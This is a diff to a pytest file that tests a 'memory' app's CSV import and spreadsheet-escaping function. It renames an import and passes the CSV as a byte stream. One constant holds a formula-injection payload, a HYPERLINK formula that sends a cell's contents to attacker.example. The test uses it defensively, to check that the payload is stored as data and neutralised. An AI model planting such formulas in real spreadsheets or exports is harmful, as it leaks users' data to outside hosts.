@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from memory.importing import parse_import
+from memory.importers import parse_import
 from memory.spreadsheet import spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
@@ -34,7 +34,8 @@ def test_spreadsheet_safe(cell: object, safe: object) -> None:
 
 def test_an_imported_formula_is_kept_as_data_and_neutralised_for_csv() -> None:
     quoted = FORMULA.replace('"', '""')
-    parsed = parse_import(f'data_type,steps,note\nhealth,3100,"{quoted}"\n'.encode(), "a.csv")
+    csv_file = f'data_type,steps,note\nhealth,3100,"{quoted}"\n'.encode()
+    parsed = parse_import(io.BytesIO(csv_file), "a.csv")
     [(_, record)] = parsed.records
     assert record.data["note"] == FORMULA  # what the user wrote is kept
 
